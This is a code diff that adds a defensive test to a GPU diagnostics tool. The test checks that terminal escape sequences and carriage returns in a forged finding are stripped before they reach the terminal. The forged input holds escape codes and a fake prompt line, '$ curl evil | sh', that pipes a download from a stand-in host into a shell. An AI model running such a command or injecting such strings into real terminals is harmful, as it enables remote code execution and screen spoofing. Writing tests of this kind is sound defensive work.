@@ -39,3 +39,10 @@ def test_findings_with_another_meaning_are_apart(capsys):
         Kind("sick", ERROR, "it gets no new grant").at("GPU-1", "GPU 1 is sick", "read dmesg"), left=True
     )
     assert len(doctor._grouped([*outcomes(5), other])) == 2
+
+
+def test_what_others_wrote_does_not_reach_the_terminal_as_commands(capsys):
+    """An agent's token is enough to write a GPU's problem; a finding quotes it."""
+    forged = MISSING.at("node n", "GPU 0 \x1b[2J\x1b]0;owned\x07 is sick", "read dmesg\r\n$ curl evil | sh")
+    doctor._show([Outcome(forged, left=True)])
+    assert not set(capsys.readouterr().out) & {"\x1b", "\x07", "\r"}
